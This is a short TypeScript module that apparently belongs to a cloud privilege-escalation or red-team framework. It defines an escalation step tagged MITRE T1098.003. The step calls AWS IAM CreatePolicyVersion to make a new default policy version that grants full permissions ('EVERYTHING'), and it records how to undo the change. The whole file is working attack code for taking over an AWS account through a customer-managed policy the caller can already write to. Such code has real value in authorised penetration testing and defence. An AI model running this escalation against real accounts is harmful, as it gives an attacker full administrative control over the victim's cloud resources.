/** T1098.003: whoever may write a new version of a policy that it has writes itself into it. IAM API Reference: CreatePolicyVersion; claim DEPART-03. */
import { type Escalation, EVERYTHING, policyArnIn, whenDone } from "./escalation.ts";

/** `policy`: name of a customer managed policy of the account. */
export const createPolicyVersion = (policy: string): Escalation => ({
  id: "create-policy-version",
  sentence: `make a new default version of \`${policy}\``,
  techniques: ["T1098.003"],
  undo: "set the former version as default and delete the new one",
  climb: (hands) =>
    whenDone(
      hands.call("iam", "CreatePolicyVersion", {
        PolicyArn: policyArnIn(hands, policy),
        PolicyDocument: EVERYTHING,
        SetAsDefault: true,
      }),
      hands,
    ),
});
